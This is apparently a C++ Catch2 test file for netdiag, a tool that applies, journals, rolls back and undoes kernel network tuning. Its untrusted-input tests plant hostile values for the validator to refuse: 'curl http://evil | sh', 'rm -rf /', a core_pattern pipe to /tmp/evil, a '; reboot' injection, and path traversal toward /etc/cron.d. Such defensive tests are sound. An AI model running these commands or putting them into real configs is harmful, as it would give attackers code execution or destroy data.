// The fix safety protocol on an in-memory host: journal first, drift check, read back, roll back, undo.
#include <catch2/catch.hpp>

#include <algorithm>
#include <limits>

#include <nlohmann/json.hpp>

#include "remediation/apply.hpp"
#include "remediation/plan_json.hpp"
#include "remediation/planners.hpp"
#include "remote/memory_transport.hpp"

using namespace netdiag;

namespace {

const std::string kMax = "/proc/sys/net/netfilter/nf_conntrack_max";
const std::string kBuckets = "/proc/sys/net/netfilter/nf_conntrack_buckets";
const std::string kPersist = "/etc/sysctl.d/60-netdiag-conntrack.conf";

MemoryTransport host_with_conntrack() {
    MemoryTransport host;
    host.files[kMax] = "262144\n";
    host.files[kBuckets] = "65536\n";
    return host;
}

HostPlan conntrack_plan() {
    HostPlan plan;
    plan.host = "web1";
    plan.changes = {
        {kMax, "262144\n", "524288\n", "conntrack table at 91%", "conntrack-max"},
        {kBuckets, "65536\n", "131072\n", "hash size to match", "conntrack-max"},
        {kPersist, std::nullopt, "net.netfilter.nf_conntrack_max = 524288\n", "survive a reboot", "conntrack-max"},
    };
    return plan;
}

Journal journal_on(MemoryTransport& host, const std::string& id) {
    auto journal = parse_journal(host.files.at(journal_path(id)), "journal");
    REQUIRE(journal.ok());
    return *journal;
}

}  // namespace

TEST_CASE("apply writes the journal first, then each change, and reads it back", "[apply]") {
    auto host = host_with_conntrack();
    const auto outcome = apply_plan(host, conntrack_plan(), "20261125T030000.000Z-web1", 1);
    CHECK(outcome.status == "applied");
    CHECK(host.writes.front() == journal_path("20261125T030000.000Z-web1"));
    CHECK(host.files.at(kMax) == "524288\n");
    CHECK(host.files.at(kBuckets) == "131072\n");
    CHECK(host.files.at(kPersist) == "net.netfilter.nf_conntrack_max = 524288\n");
    CHECK(journal_on(host, "20261125T030000.000Z-web1").state == "applied");
}

TEST_CASE("a value changed behind netdiag's back stops the host before any write", "[apply]") {
    auto host = host_with_conntrack();
    host.files[kBuckets] = "70000\n";
    const auto outcome = apply_plan(host, conntrack_plan(), "20261125T030000.001Z-j1", 1);
    CHECK(outcome.status == "drifted");
    REQUIRE_FALSE(outcome.messages.empty());
    CHECK(outcome.messages.front() ==
          kBuckets + " changed since the plan: expected \"65536\", found \"70000\"; nothing written");
    CHECK(host.files.at(kMax) == "262144\n");
    CHECK_FALSE(host.files.count(kPersist));
    CHECK(journal_on(host, "20261125T030000.001Z-j1").state == "aborted");
}

TEST_CASE("a value that does not take rolls the host back", "[apply]") {
    auto host = host_with_conntrack();
    host.ignored_writes[kBuckets] = "65536\n";  // the kernel kept its value
    const auto outcome = apply_plan(host, conntrack_plan(), "20261125T030000.001Z-j1", 1);
    CHECK(outcome.status == "rolled_back");
    REQUIRE(outcome.messages.size() >= 2);
    CHECK(outcome.messages.at(0) == kMax + ": \"262144\" -> \"524288\"");
    CHECK(outcome.messages.at(1) == kBuckets + " reads back \"65536\" after writing \"131072\"");
    CHECK(host.files.at(kMax) == "262144\n");  // restored
    CHECK_FALSE(host.files.count(kPersist));   // never created
    CHECK(journal_on(host, "20261125T030000.001Z-j1").state == "rolled_back");

    auto failing = host_with_conntrack();
    failing.write_errors[kPersist] = kPersist + ": Read-only file system";
    CHECK(apply_plan(failing, conntrack_plan(), "20261125T030000.002Z-j2", 1).status == "rolled_back");
    CHECK(failing.files.at(kMax) == "262144\n");
    CHECK(failing.files.at(kBuckets) == "65536\n");
}

TEST_CASE("undo restores the originals and removes created files", "[apply]") {
    auto host = host_with_conntrack();
    const auto original = host.files;
    REQUIRE(apply_plan(host, conntrack_plan(), "20261125T030000.001Z-j1", 1).status == "applied");
    const auto journal = journal_on(host, "20261125T030000.001Z-j1");
    auto preview = plan_undo(host, journal);
    REQUIRE(preview.ok());
    REQUIRE(preview->changes.size() == 3);
    CHECK(preview->changes.front().path == kPersist);  // last written, first undone
    CHECK(preview->changes.front().remove);
    CHECK(undo_journal(host, journal).status == "undone");
    CHECK(host.files.at(kMax) == original.at(kMax));
    CHECK(host.files.at(kBuckets) == original.at(kBuckets));
    CHECK_FALSE(host.files.count(kPersist));
    CHECK(journal_on(host, "20261125T030000.001Z-j1").state == "undone");
    // Undoing again finds nothing left to do.
    CHECK(plan_undo(host, journal_on(host, "20261125T030000.001Z-j1"))->changes.empty());
}

TEST_CASE("undo removes the directories netdiag made for its files, where nothing else moved in", "[apply]") {
    auto host = host_with_conntrack();  // no /etc/sysctl.d yet
    REQUIRE(apply_plan(host, conntrack_plan(), "20261125T030000.001Z-d1", 1).status == "applied");
    auto journal = journal_on(host, "20261125T030000.001Z-d1");
    REQUIRE(journal.changes.size() == 3);
    CHECK(journal.changes[2].created_directories == std::vector<std::string>{"/etc/sysctl.d"});
    CHECK(journal.changes[0].created_directories.empty());  // a kernel file makes no directory
    auto undone = undo_journal(host, journal);
    CHECK(undone.status == "undone");
    CHECK(std::count(undone.messages.begin(), undone.messages.end(),
                     "/etc/sysctl.d: removed the directory netdiag made") == 1);
    CHECK(std::count(host.writes.begin(), host.writes.end(), "/etc/sysctl.d/") == 1);

    // Where the directory was there before, it is not netdiag's to remove.
    auto other = host_with_conntrack();
    other.files["/etc/sysctl.d/99-local.conf"] = "vm.swappiness = 10\n";
    REQUIRE(apply_plan(other, conntrack_plan(), "20261125T030000.001Z-d2", 1).status == "applied");
    CHECK(journal_on(other, "20261125T030000.001Z-d2").changes[2].created_directories.empty());

    // A directory netdiag made that someone has since put a file in stays, and the undo succeeds.
    auto shared = host_with_conntrack();
    REQUIRE(apply_plan(shared, conntrack_plan(), "20261125T030000.001Z-d3", 1).status == "applied");
    shared.files["/etc/sysctl.d/99-added-later.conf"] = "vm.swappiness = 10\n";
    auto kept = undo_journal(shared, journal_on(shared, "20261125T030000.001Z-d3"));
    CHECK(kept.status == "undone");
    CHECK(std::count(shared.writes.begin(), shared.writes.end(), "/etc/sysctl.d/") == 1);  // tried, and it stays
    CHECK(std::none_of(kept.messages.begin(), kept.messages.end(),
                       [](const std::string& m) { return m.find("removed the directory") != std::string::npos; }));
    CHECK(shared.files.count("/etc/sysctl.d/99-added-later.conf") == 1);
}

TEST_CASE("a journal's created directories must be ones netdiag could have made for that file", "[apply]") {
    const auto change_json = [](const nlohmann::json& directories, const nlohmann::json& before = nullptr) {
        return nlohmann::json{{"path", kPersist}, {"before", before}, {"after", "net.netfilter.nf_conntrack_max = 524288\n"},
                              {"reason", "r"}, {"fix", "conntrack-max"}, {"remove", false},
                              {"created_directories", directories}};
    };
    const auto refused = [&](const nlohmann::json& json, ChangeSource source = ChangeSource::journal) {
        try {
            (void)change_from_json(json, source);
            return false;
        } catch (const std::invalid_argument&) {
            return true;
        }
    };
    CHECK_FALSE(refused(change_json({"/etc/sysctl.d"})));
    CHECK(change_to_json(change_from_json(change_json({"/etc/sysctl.d"}), ChangeSource::journal))["created_directories"] ==
          nlohmann::json{"/etc/sysctl.d"});
    CHECK(refused(change_json({"/etc"})));                 // the top level is never netdiag's
    CHECK(refused(change_json({"/var/lib/netdiag"})));     // not above the file
    CHECK(refused(change_json({"/etc/sysctl.d/.."})));     // not a plain name
    CHECK(refused(change_json({"/etc/sysctl"})));          // a prefix, not a directory above it
    CHECK(refused(change_json({"/etc/sysctl.d"}, "x\n"))); // the file existed: no directory was made
    CHECK(refused(change_json({"/etc/sysctl.d"}), ChangeSource::plan));
    CHECK(refused(change_json(nlohmann::json::array({"/etc/sysctl.d", "/etc/sysctl.d", "/etc/sysctl.d", "/etc/sysctl.d",
                                                     "/etc/sysctl.d", "/etc/sysctl.d", "/etc/sysctl.d", "/etc/sysctl.d",
                                                     "/etc/sysctl.d"}))));
    CHECK(refused(change_json("/etc/sysctl.d")));          // not a list
    CHECK_FALSE(change_to_json(conntrack_plan().changes[2]).contains("created_directories"));  // plans stay as they were
}

TEST_CASE("a run killed half-way leaves a journal that undo completes", "[apply]") {
    auto host = host_with_conntrack();
    Journal journal{"20261125T030000.001Z-j1", "", "web1", "started", 1, conntrack_plan().changes};
    host.files[journal_path("20261125T030000.001Z-j1")] = journal_to_text(journal);
    host.files[kMax] = "524288\n";  // the first write happened, then the process died
    auto listing = read_journals(host);
    REQUIRE(listing.ok());
    REQUIRE(listing->journals.size() == 1);
    CHECK(listing->journals.front().state == "started");
    CHECK(undo_journal(host, listing->journals.front()).status == "undone");
    CHECK(host.files.at(kMax) == "262144\n");
    CHECK(host.files.at(kBuckets) == "65536\n");
}

TEST_CASE("undo refuses a value changed since netdiag wrote it", "[apply]") {
    auto host = host_with_conntrack();
    REQUIRE(apply_plan(host, conntrack_plan(), "20261125T030000.001Z-j1", 1).status == "applied");
    host.files[kMax] = "1000000\n";
    const auto outcome = undo_journal(host, journal_on(host, "20261125T030000.001Z-j1"));
    CHECK(outcome.status == "drifted");
    CHECK(outcome.messages.front() ==
          "20261125T030000.001Z-j1: " + kMax + " changed since netdiag wrote it: expected \"524288\", found \"1000000\"; not undoing");
    CHECK(host.files.at(kMax) == "1000000\n");
}

TEST_CASE("masks compare by CPUs, not by padding", "[apply]") {
    CHECK(same_value("/proc/irq/27/smp_affinity", "4\n", "00000004\n"));
    CHECK(same_value("/proc/irq/27/smp_affinity", "00000000,00000004", "4"));
    CHECK_FALSE(same_value("/proc/irq/27/smp_affinity", "4", "8"));
    CHECK_FALSE(same_value("/proc/sys/net/core/netdev_budget", "300", "0300"));
    CHECK(same_value("/etc/x", std::nullopt, std::nullopt));
    CHECK_FALSE(same_value("/etc/x", std::nullopt, ""));
}

TEST_CASE("an IRQ the kernel manages is reported and skipped, not rolled back") {
    MemoryTransport host;
    host.files["/proc/irq/40/smp_affinity"] = "1\n";
    host.files["/proc/irq/41/smp_affinity"] = "1\n";
    host.write_errors["/proc/irq/40/smp_affinity"] = "/proc/irq/40/smp_affinity: write failed: Input/output error";
    HostPlan plan;
    plan.host = "db1";
    plan.changes = {
        {"/proc/irq/40/smp_affinity", "1\n", "2\n", "spread", "irq-affinity"},
        {"/proc/irq/41/smp_affinity", "1\n", "4\n", "spread", "irq-affinity"},
    };
    const auto outcome = apply_plan(host, plan, "20261125T030000.001Z-j1", 0);
    CHECK(outcome.status == "applied");
    CHECK(host.files["/proc/irq/40/smp_affinity"] == "1\n");
    CHECK(host.files["/proc/irq/41/smp_affinity"] == "4\n");
    CHECK(std::any_of(outcome.messages.begin(), outcome.messages.end(),
                      [](const std::string& m) { return m.find("kernel-managed") != std::string::npos; }));
}

TEST_CASE("a plan file that names a path no fixer writes is refused") {
    const std::string text = R"({"schema": "netdiag.plan/v1", "generated_at_unix_ms": 0, "hosts": [
        {"host": "web1", "status": "ok", "error": null, "notes": [], "changes": [
          {"path": "/etc/passwd", "before": null, "after": "x", "reason": "", "fix": "port-range"}]}]})";
    const auto plans = parse_plan_document(text, "plan.json");
    REQUIRE_FALSE(plans);
    CHECK(plans.error().message == "plan.json: not a valid plan: \"/etc/passwd\" is not a path netdiag plans changes to");
}

TEST_CASE("a rolled-back journal holds only the changes that were written") {
    MemoryTransport host = host_with_conntrack();
    host.ignored_writes[kBuckets] = "65536\n";  // the kernel keeps its value: the read back fails
    const auto plan = conntrack_plan();  // max, then buckets (which does not take), then the file
    const auto outcome = apply_plan(host, plan, "20261125T030000.001Z-j1", 0);
    CHECK(outcome.status == "rolled_back");
    auto listing = read_journals(host);
    REQUIRE(listing);
    REQUIRE(listing->journals.size() == 1);
    CHECK(listing->journals.front().state == "rolled_back");
    CHECK(listing->journals.front().changes.size() == 2);  // only what was written, not the persistent file
    CHECK(host.files[kMax] == "262144\n");
}

TEST_CASE("a run does not start while another has not finished on the host") {
    MemoryTransport host = host_with_conntrack();
    const auto plan = conntrack_plan();
    const std::int64_t minute = 60 * 1000, now = 1'000'000'000;

    // A run in progress: its journal is a minute old and nothing is written yet.
    Journal running{"20261125T030000.003Z-j-running", "", "web1", "started", now - minute, plan.changes};
    host.files[journal_path(running.id)] = journal_to_text(running);
    auto outcome = apply_plan(host, plan, "20261125T030000.004Z-j-new", now);
    CHECK(outcome.status == "error");
    REQUIRE_FALSE(outcome.messages.empty());
    CHECK(outcome.messages[0].find("another netdiag run has not finished here (journal 20261125T030000.003Z-j-running)") != std::string::npos);
    CHECK(host.files[kMax] == "262144\n");

    // The same journal an hour later with nothing written: a run killed before its first write.
    running.created_at_unix_ms = now - 60 * minute;
    host.files[journal_path(running.id)] = journal_to_text(running);
    CHECK(apply_plan(host, plan, "20261125T030000.005Z-j-newer", now).status == "applied");

    // A killed run whose writes still stand blocks, however old, until undo completes it.
    MemoryTransport killed = host_with_conntrack();
    killed.files[kMax] = "524288\n";
    Journal half{"20261125T030000.006Z-j-half", "", "web1", "started", now - 60 * minute, plan.changes};
    killed.files[journal_path(half.id)] = journal_to_text(half);
    CHECK(apply_plan(killed, plan, "20261125T030000.007Z-j-next", now).status == "error");
}

// --- Journals and plans are untrusted input (issue "Trusted with root") ---

namespace {

const std::string kId = "20261202T041501.123Z-web1";

std::string journal_text(const std::string& id, const std::string& host, const std::string& changes_json,
                         const std::string& state = "applied", std::int64_t created = 0) {
    nlohmann::json document = {{"schema", "netdiag.journal/v1"}, {"id", id}, {"host", host}, {"state", state},
                               {"created_at_unix_ms", created}, {"changes", nlohmann::json::parse(changes_json)}};
    return document.dump();
}

std::string plan_text(const std::string& changes_json) {
    return R"({"schema": "netdiag.plan/v1", "generated_at_unix_ms": 0, "hosts": [
        {"host": "web1", "status": "ok", "error": null, "notes": [], "changes": )" + changes_json + "}]}";
}

std::string one_change(const std::string& path, const std::string& after, const std::string& before = "null") {
    return nlohmann::json::array({{{"path", path}, {"before", before == "null" ? nlohmann::json() : nlohmann::json(before)},
                                   {"after", after}, {"reason", ""}, {"fix", "port-range"}}})
        .dump();
}

bool mentions(const std::vector<std::string>& lines, const std::string& text) {
    return std::any_of(lines.begin(), lines.end(), [&](const std::string& line) { return line.find(text) != std::string::npos; });
}

}  // namespace

TEST_CASE("a journal id is never a path: traversal and NUL ids are skipped, not written") {
    MemoryTransport host = host_with_conntrack();
    const std::string evil_id = std::string("../../../../etc/cron.d/evil") + '\0';
    host.files[std::string(kJournalDirectory) + "/a.json"] = journal_text(evil_id, " /tmp/evil.so ", "[]");
    auto listing = read_journals(host);
    REQUIRE(listing);
    CHECK(listing->journals.empty());
    REQUIRE(listing->skipped.size() == 1);
    CHECK(listing->skipped[0].find("is not a journal id netdiag makes") != std::string::npos);
    CHECK(listing->skipped[0].find("\\x00") != std::string::npos);  // shown escaped, never raw

    // A well-formed id in a file of another name: the file names the journal, so it is not one.
    host.files[std::string(kJournalDirectory) + "/b.json"] = journal_text(kId, "web1", "[]");
    listing = read_journals(host);
    REQUIRE(listing);
    CHECK(listing->journals.empty());
    CHECK(mentions(listing->skipped, "which is not its name"));

    // Undo of a journal read from its file writes back to that file only.
    host.files[journal_path(kId)] = journal_text(kId, "web1", "[]");
    listing = read_journals(host);
    REQUIRE(listing->journals.size() == 1);
    host.writes.clear();
    CHECK(undo_journal(host, listing->journals[0]).status == "undone");
    CHECK(host.writes == std::vector<std::string>{journal_path(kId)});
}

TEST_CASE("journals and plans may hold only content netdiag writes") {
    const std::vector<std::pair<std::string, std::string>> planted = {
        {"/etc/sysctl.d/60-netdiag-ports.conf", "kernel.core_pattern = |/tmp/evil %p\n"},
        {"/etc/sysctl.d/60-netdiag-ports.conf", "net.ipv4.ip_local_port_range = 1 2 3\n"},
        {"/etc/sysctl.d/60-netdiag-conntrack.conf", "net.netfilter.nf_conntrack_max = 524288\nkernel.modules_disabled = 0\n"},
        {"/etc/modules-load.d/netdiag-conntrack.conf", "evil_module\n"},
        {"/etc/netdiag/irq-affinity.sh", "#!/bin/sh\ncurl http://evil | sh\n"},
        {"/etc/netdiag/irq-affinity.sh", "#!/bin/sh\necho 1 > /proc/irq/5/smp_affinity; rm -rf /\n"},
        {"/proc/sys/net/core/netdev_max_backlog", "-5\n"},
        {"/proc/sys/net/ipv4/ip_local_port_range", "60000 1000\n"},
        {"/proc/irq/5/smp_affinity", "f; reboot\n"},
        {"/proc/sys/net/core/netdev_max_backlog", "2000\n\x1b[8m"},
        {"/etc/sysctl.d/60-netdiag-listen-backlog.conf", "net.core.somaxconn = 4096\nkernel.core_pattern = |/tmp/evil %p\n"},
        {"/etc/sysctl.d/60-netdiag-tcp-mem.conf", "net.ipv4.tcp_mem = 1 2 x\n"},
        {"/etc/sysctl.d/60-netdiag-neigh-table.conf", "net.ipv4.neigh.default.gc_thresh3 = 1e9\n"},
        {"/proc/sys/net/ipv4/tcp_mem", "1 2 3 4\n"},
        {"/proc/sys/net/ipv4/tcp_syncookies", "0\n"},  // a plan may not turn SYN cookies off
    };
    for (const auto& [path, content] : planted) {
        INFO(path << ": " << content);
        auto plan = parse_plan_document(plan_text(one_change(path, content)), "plan.json");
        CHECK_FALSE(plan);
        // In a journal, `before` is what undo writes back: it is held to the same rule.
        MemoryTransport host;
        host.files[journal_path(kId)] = journal_text(kId, "web1", one_change(path, "1000\n", content));
        auto listing = read_journals(host);
        REQUIRE(listing);
        CHECK(listing->journals.empty());
        CHECK(listing->skipped.size() == 1);
        // And a plan that reaches apply_plan some other way is refused before anything is written.
        HostPlan direct{"web1", {{path, std::nullopt, content, "", "port-range"}}, {}};
        MemoryTransport target;
        const auto outcome = apply_plan(target, direct, kId, 0);
        CHECK(outcome.status == "error");
        CHECK(target.writes.empty());
    }
    // What netdiag writes itself passes.
    const std::vector<std::pair<std::string, std::string>> own = {
        {"/etc/sysctl.d/60-netdiag-ports.conf",
         "# Written by `netdiag fix` (port-range): more.\n# `netdiag undo` removes it.\nnet.ipv4.ip_local_port_range = 10240 65535\n"},
        {"/etc/modules-load.d/netdiag-conntrack.conf", "# Written by `netdiag fix` (conntrack-max): load.\nnf_conntrack\n"},
        {"/etc/netdiag/irq-affinity.sh", "#!/bin/sh\n# note\necho 00000002 > /proc/irq/41/smp_affinity  # eth0 to CPU1\n"},
        {"/proc/sys/net/ipv4/ip_local_port_range", "10240\t65535\n"},
        {"/proc/irq/41/smp_affinity", "00000000,00000002\n"},
        {"/etc/sysctl.d/60-netdiag-listen-backlog.conf",
         "# Written by `netdiag fix` (listen-backlog): x\nnet.core.somaxconn = 4096\nnet.ipv4.tcp_syncookies = 1\n"},
        {"/etc/sysctl.d/60-netdiag-tcp-mem.conf", "net.ipv4.tcp_mem = 393216 524288 786432\n"},
        {"/etc/sysctl.d/60-netdiag-neigh-table.conf",
         "net.ipv6.neigh.default.gc_thresh1 = 256\nnet.ipv6.neigh.default.gc_thresh2 = 1024\n"
         "net.ipv6.neigh.default.gc_thresh3 = 2048\n"},
        {"/proc/sys/net/ipv4/tcp_mem", "393216 524288 786432\n"},
        {"/proc/sys/net/ipv4/tcp_syncookies", "1\n"},
    };
    for (const auto& [path, content] : own) {
        INFO(path);
        CHECK_FALSE(content_problem(path, content));
        CHECK(parse_plan_document(plan_text(one_change(path, content)), "plan.json"));
    }
}

TEST_CASE("control characters in plan paths and duplicate paths are refused") {
    const auto forged = parse_plan_document(
        plan_text(one_change("/sys/class/net/x\n# (no changes for this host)\n\x1b[8m/queues/rx-0/rps_cpus", "f\n")),
        "plan.json");
    REQUIRE_FALSE(forged);
    CHECK(forged.error().message.find("\x1b") == std::string::npos);
    CHECK(forged.error().message.find("\\x1b") != std::string::npos);

    nlohmann::json changes = nlohmann::json::parse(one_change("/proc/sys/net/core/netdev_max_backlog", "2000\n", "1000\n"));
    changes.push_back(changes[0]);
    changes[1]["after"] = "5000\n";
    const auto twice = parse_plan_document(plan_text(changes.dump()), "plan.json");
    REQUIRE_FALSE(twice);
    CHECK(twice.error().message.find("appears twice") != std::string::npos);
    CHECK_FALSE(parse_plan_document(plan_text("[]").replace(plan_text("[]").find("\"web1\""), 6, "\"w\\u001b1\""), "p"));
}

TEST_CASE("a loosely owned journal directory is refused; a loose journal file is skipped") {
    MemoryTransport host = host_with_conntrack();
    host.statuses[std::string(kJournalDirectory)] = {std::string(kJournalDirectory), true, 'd', 0777, true};
    auto outcome = apply_plan(host, conntrack_plan(), kId, 0);
    CHECK(outcome.status == "error");
    CHECK(mentions(outcome.messages, "lets others write there"));
    CHECK(host.writes.empty());
    CHECK_FALSE(read_journals(host));

    host.statuses[std::string(kJournalDirectory)] = {std::string(kJournalDirectory), true, 'd', 0700, false};
    CHECK_FALSE(read_journals(host));  // owned by someone else

    host.statuses.clear();
    const auto planted = journal_path("20261202T000000.000Z-planted");
    host.files[planted] = journal_text("20261202T000000.000Z-planted", "web1", "[]");
    host.statuses[planted] = {planted, true, 'f', 0666, true};
    auto listing = read_journals(host);
    REQUIRE(listing);
    CHECK(listing->journals.empty());
    CHECK(mentions(listing->skipped, "not a regular file that only root can write"));
    host.statuses[planted] = {planted, true, 'l', 0777, true};
    CHECK(read_journals(host)->journals.empty());
}

TEST_CASE("a malformed journal or one from the future does not block later fixes") {
    MemoryTransport host = host_with_conntrack();
    host.files[journal_path("20261202T000000.000Z-broken")] = "{ not json";
    const std::int64_t now = 1'000'000'000;
    // Dated a day ahead (a clock set back since), nothing written: not "in progress" for ever.
    Journal future{"20261202T000000.001Z-future", "", "web1", "started", now + 24 * 60 * 60 * 1000, conntrack_plan().changes};
    host.files[journal_path(future.id)] = journal_to_text(future);
    const auto outcome = apply_plan(host, conntrack_plan(), kId, now);
    CHECK(outcome.status == "applied");
    CHECK(mentions(outcome.messages, "20261202T000000.000Z-broken.json: not a valid journal"));
    // undo --journal still reaches the future one by its id.
    auto listing = read_journals(host);
    REQUIRE(listing);
    CHECK(std::any_of(listing->journals.begin(), listing->journals.end(),
                      [&](const Journal& j) { return j.id == future.id; }));
}

TEST_CASE("journals of finished runs are pruned after the retention time") {
    MemoryTransport host = host_with_conntrack();
    const std::int64_t now = kJournalRetentionMs * 3;
    Journal old_aborted{"20250101T000000.000Z-web1", "", "web1", "aborted", now - kJournalRetentionMs - 1, {}};
    Journal old_applied{"20250101T000000.001Z-web1", "", "web1", "applied", now - kJournalRetentionMs - 1, {}};
    Journal recent_undone{"20250101T000000.002Z-web1", "", "web1", "undone", now - 1000, {}};
    for (const auto* journal : {&old_aborted, &old_applied, &recent_undone}) {
        host.files[journal_path(journal->id)] = journal_to_text(*journal);
    }
    const auto outcome = apply_plan(host, conntrack_plan(), kId, now);
    CHECK(outcome.status == "applied");
    CHECK_FALSE(host.files.count(journal_path(old_aborted.id)));
    CHECK(host.files.count(journal_path(old_applied.id)));
    CHECK(host.files.count(journal_path(recent_undone.id)));
    CHECK(mentions(outcome.messages, "removed 1 journal(s) of finished runs older than 30 days"));
    CHECK(host.access.at(journal_path(kId)) == FileAccess::owner_only);
}

TEST_CASE("a file someone else edited is refused at apply, so every journal written reads back") {
    MemoryTransport host;
    host.files["/proc/sys/net/core/netdev_max_backlog"] = "1000\n";
    host.files["/etc/sysctl.d/60-netdiag-softnet-backlog.conf"] = "; admin note\nnet.core.netdev_max_backlog = 1500\n";
    HostPlan plan{"web1",
                  {{"/proc/sys/net/core/netdev_max_backlog", "1000\n", "2000\n", "", "softnet-backlog"},
                   {"/etc/sysctl.d/60-netdiag-softnet-backlog.conf",
                    "; admin note\nnet.core.netdev_max_backlog = 1500\n", "net.core.netdev_max_backlog = 2000\n", "",
                    "softnet-backlog"}},
                  {}};
    const auto outcome = apply_plan(host, plan, kId, 0);
    CHECK(outcome.status == "error");
    CHECK(mentions(outcome.messages, "undo could not put it back"));
    CHECK(host.writes.empty());
    // The same plan against netdiag's own earlier file applies, and its journal reads back.
    host.files["/etc/sysctl.d/60-netdiag-softnet-backlog.conf"] = "net.core.netdev_max_backlog = 1500\n";
    plan.changes[1].before = "net.core.netdev_max_backlog = 1500\n";
    REQUIRE(apply_plan(host, plan, kId, 0).status == "applied");
    auto listing = read_journals(host);
    REQUIRE(listing);
    CHECK(listing->skipped.empty());
    REQUIRE(listing->journals.size() == 1);
    CHECK(listing->journals[0].id == kId);
}

TEST_CASE("a journal's time must be one netdiag writes") {
    MemoryTransport host;
    host.files[journal_path(kId)] = journal_text(kId, "web1", "[]", "started", std::numeric_limits<std::int64_t>::min());
    auto listing = read_journals(host);
    REQUIRE(listing);
    CHECK(listing->journals.empty());
    CHECK(mentions(listing->skipped, "created_at_unix_ms is not a time netdiag writes"));
}

TEST_CASE("very long paths and script lines are refused without a crash") {
    const std::string long_path = "/sys/class/net/" + std::string(200000, 'a') + "/queues/rx-0/rps_cpus";
    CHECK_FALSE(parse_plan_document(plan_text(one_change(long_path, "f\n")), "plan.json"));
    const std::string script = "#!/bin/sh\necho 1 > /proc/irq/5/smp_affinity  # " + std::string(100000, 'x') + "\n";
    CHECK(content_problem("/etc/netdiag/irq-affinity.sh", script));
}

TEST_CASE("listen-backlog applies, reads back and undoes to SYN cookies off; tcp_mem reads back with tabs") {
    MemoryTransport host;
    host.files["/proc/sys/net/core/somaxconn"] = "128\n";
    host.files["/proc/sys/net/ipv4/tcp_syncookies"] = "0\n";
    host.files["/proc/sys/net/ipv4/tcp_mem"] = "1000\t2000\t3000\n";
    const std::string file = "/etc/sysctl.d/60-netdiag-listen-backlog.conf";
    HostPlan plan{"web1",
                  {{"/proc/sys/net/core/somaxconn", "128\n", "4096\n", "", "listen-backlog"},
                   {"/proc/sys/net/ipv4/tcp_syncookies", "0\n", "1\n", "", "listen-backlog"},
                   {"/proc/sys/net/ipv4/tcp_mem", "1000\t2000\t3000\n", "24576 32768 49152\n", "", "tcp-mem"},
                   {file, std::nullopt, "net.core.somaxconn = 4096\nnet.ipv4.tcp_syncookies = 1\n", "", "listen-backlog"}},
                  {}};
    REQUIRE(apply_plan(host, plan, kId, 0).status == "applied");
    CHECK(host.files.at("/proc/sys/net/ipv4/tcp_syncookies") == "1\n");
    // The kernel prints tcp_mem with tabs: the same numbers read back as the same value.
    host.files["/proc/sys/net/ipv4/tcp_mem"] = "24576\t32768\t49152\n";
    auto listing = read_journals(host);
    REQUIRE(listing);
    REQUIRE(listing->journals.size() == 1);  // its `before` (cookies off) is what the host held: accepted
    CHECK(undo_journal(host, listing->journals[0]).status == "undone");
    CHECK(host.files.at("/proc/sys/net/ipv4/tcp_syncookies") == "0\n");
    CHECK(host.files.at("/proc/sys/net/core/somaxconn") == "128\n");
    CHECK(host.files.at("/proc/sys/net/ipv4/tcp_mem") == "1000\t2000\t3000\n");
    CHECK_FALSE(host.files.count(file));

    // A plan may not empty a listen queue, though a host may hold 0 before (undo writes it back).
    CHECK_FALSE(parse_plan_document(plan_text(one_change("/proc/sys/net/core/somaxconn", "0\n", "128\n")), "plan.json"));
    CHECK(parse_plan_document(plan_text(one_change("/proc/sys/net/core/somaxconn", "4096\n", "0\n")), "plan.json"));
    // A journal whose `after` turned cookies off, or whose file set another key, is not netdiag's.
    for (const auto& [path, after] : std::vector<std::pair<std::string, std::string>>{
             {"/proc/sys/net/ipv4/tcp_syncookies", "0\n"},
             {file, "net.core.somaxconn = 4096\nnet.ipv4.ip_forward = 1\n"},
             {"/etc/sysctl.d/60-netdiag-tcp-mem.conf", "net.ipv4.tcp_mem = 3 2 1\n"}}) {
        INFO(path);
        MemoryTransport planted;
        const bool runtime = path.rfind("/proc/", 0) == 0;
        planted.files[journal_path(kId)] = journal_text(kId, "web1", one_change(path, after, runtime ? "1\n" : "null"));
        auto read = read_journals(planted);
        REQUIRE(read);
        CHECK(read->journals.empty());
        CHECK(read->skipped.size() == 1);
    }
}
